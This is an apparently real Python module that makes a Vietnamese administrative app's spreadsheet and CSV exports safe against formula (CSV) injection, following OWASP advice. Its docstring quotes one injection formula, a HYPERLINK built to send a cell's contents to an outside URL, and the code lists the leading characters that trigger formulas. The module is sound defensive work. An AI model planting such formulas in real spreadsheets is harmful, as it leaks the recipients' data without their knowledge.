"""Writing spreadsheets people download: every .xlsx and .csv ctip makes goes through here.

A value typed by one person (an activity's title, a branch's name, a note) ends up in another
person's Excel. Excel runs a cell that starts with ``=`` (and, in a CSV, one that starts with
``+``, ``-``, ``@``, a tab or a carriage return) as a formula, so a commune officer could plant
``=HYPERLINK("http://…?d="&A1, "Bấm vào đây")`` that sends the province officer's data away
(CSV or formula injection). This module writes every text as text:

- in .xlsx, every ``str`` is stored as a string cell (openpyxl would store a ``str`` starting
  with ``=`` as a formula, and ``#N/A`` as an error), without the control characters Excel
  refuses and cut to Excel's 32,767 characters; a text that would read as a formula once
  edited also gets Excel's "quote prefix" style, so pressing F2 and Enter keeps it text;
- in .csv, every text field is quoted and a text starting with a dangerous character (after any
  leading spaces) gets a leading ``'``, as OWASP recommends; numbers are written as numbers
  (a negative number stays a number: only ``str`` values are touched).

Exports build their workbook with ``workbook()``, add rows with ``append``/``cell``/``put`` and
finish with ``save``, which sweeps the whole workbook once more, so a cell written any other way
is made safe too. CSV files come from ``csv_bytes``. ``tests/core/test_exports.py`` fails when a
module outside this one creates a workbook or a CSV writer.
"""

from __future__ import annotations

import csv
import io
import json
import numbers
import re
from collections.abc import Iterable, Sequence
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
EXCEL_MAX_CELL_CHARS = 32_767
# What makes a spreadsheet read a cell as a formula (OWASP "CSV injection"): = + - @ first,
# or a tab or carriage return first (some programs drop it and read what follows). Leading
# spaces are skipped by some programs too, so they are looked through.
DANGEROUS_FIRST = frozenset("=+-@\t\r")
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\']")
# The control characters a cell may not hold: openpyxl's ``ILLEGAL_CHARACTERS_RE``, written here
# so that a process that never writes a workbook does not load openpyxl (and numpy) to know
# them (decision 0072; ``tests/core/test_exports.py`` holds the two equal).
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    if not text:
        return False
    if text[0] in DANGEROUS_FIRST:
        return True
    rest = text.lstrip(" \n\u00a0")
    return bool(rest) and rest[0] in DANGEROUS_FIRST


def csv_text(text: str) -> str:
    """A text as a CSV field (OWASP): a leading ``'`` when it could be read as a formula."""
    return "'" + text if is_dangerous(text) else text


def excel_text(text: str) -> str:
    """A text Excel accepts in a cell: no control characters, at most 32,767 characters."""
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    return text[:EXCEL_MAX_CELL_CHARS]


def put(cell: Cell, value: Any) -> Cell:
    """Give ``cell`` its value; a ``str`` stays a string whatever it starts with."""
    if isinstance(value, str):
        text = excel_text(value)
        cell.value = text
        cell.data_type = "s"  # never "f" (formula) or "e" (error), whatever openpyxl guessed
        if is_dangerous(text) and not cell.quotePrefix:
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def cell(sheet: Any, value: Any, *, font: Any = None, alignment: Any = None,
         number_format: str | None = None, fill: Any = None) -> Cell:
    """A cell for ``sheet.append`` (also in write-only sheets), its value written safely."""
    from openpyxl.cell.cell import Cell  # slow to import, needed only for a workbook (0072)

    new = put(Cell(sheet, row=1, column=1), value)
    if font is not None:
        new.font = font
    if alignment is not None:
        new.alignment = alignment
    if fill is not None:
        new.fill = fill
    if number_format is not None:
        new.number_format = number_format
    return new


def append(sheet: Any, values: Iterable[Any], **style: Any) -> None:
    """Add a row: each value (or ready ``Cell``) written safely, with ``style`` if given."""
    from openpyxl.cell.cell import Cell  # slow to import, needed only for a workbook (0072)

    sheet.append([v if isinstance(v, Cell) else cell(sheet, v, **style) for v in values])


def sheet_title(text: str) -> str:
    """A valid sheet name: without ``[ ] : * ? / \\ '`` and at most 31 characters."""
    return _SHEET_TITLE_FORBIDDEN.sub(" ", excel_text(text)).strip()[:31] or "Sheet"


def workbook(*, write_only: bool = False) -> Workbook:
    """A new workbook; finish it with ``save``."""
    from openpyxl import Workbook  # slow to import, needed only for a workbook (0072)

    return Workbook(write_only=write_only)


def _sweep(book: Workbook) -> None:
    """Rewrite every text cell of a (normal) workbook through ``put``."""
    from openpyxl.cell.cell import Cell  # slow to import, needed only for a workbook (0072)

    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for one in row:
                if not isinstance(one, Cell):
                    continue  # a merged cell holds nothing
                if isinstance(one.value, str) or one.data_type in {"f", "e"}:
                    put(one, "" if one.value is None else str(one.value))


def save(book: Workbook, out: IO[bytes] | None = None) -> bytes:
    """Write the workbook to ``out`` (and return b"") or return its bytes; every text cell is
    made safe first (write-only workbooks were made safe cell by cell by ``append``)."""
    if not getattr(book, "write_only", False):
        _sweep(book)
    if out is not None:
        book.save(out)
        return b""
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_field(value: Any) -> Any:
    """A value as a CSV field: text neutralised, numbers as numbers, ``None`` empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, numbers.Number):
        return value
    return csv_text(str(value))


def csv_bytes(rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None,
              bom: bool = True) -> bytes:
    """A UTF-8 CSV (with a byte order mark, so Excel reads the Vietnamese letters): every text
    field quoted and neutralised, numbers unquoted."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    if header is not None:
        writer.writerow([csv_field(v) for v in header])
    for row in rows:
        writer.writerow([csv_field(v) for v in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def json_bytes(data: Any) -> bytes:
    """A UTF-8 JSON document (Vietnamese letters kept as letters, keys in order). JSON has no
    formulas: nothing to neutralise, but every JSON file leaves through here like the others."""
    return json.dumps(data, ensure_ascii=False, indent=1, default=str).encode("utf-8")
